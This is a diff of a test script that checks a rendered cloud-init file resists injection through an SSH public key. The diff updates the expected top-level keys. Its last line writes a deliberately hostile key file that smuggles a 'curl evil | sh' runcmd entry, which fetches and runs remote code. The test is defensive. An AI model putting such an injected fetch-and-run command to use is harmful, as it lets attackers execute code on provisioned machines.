@@ -133,7 +133,7 @@ d = yaml.safe_load(open("hostile.yaml", encoding="utf-8"))
 c = json.loads([w for w in d["write_files"] if w["path"] == "/etc/agentbox/agentbox.json"][0]["content"])
 assert c["workspace"]["image"] == sys.argv[1], c["workspace"]["image"]
 assert d["users"][1]["ssh_authorized_keys"] == [sys.argv[2]], d["users"][1]
-assert set(d) == {"locale", "users", "write_files", "runcmd"}, set(d)
+assert set(d) == {"locale", "ssh_pwauth", "disable_root", "users", "write_files", "runcmd"}, set(d)
 assert len(d["write_files"]) == 2 and "evil" not in json.dumps(d["users"])
 PY
 printf '%s\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne a' '  - [sh, -c, "curl evil | sh"]' >keys/inject.pub
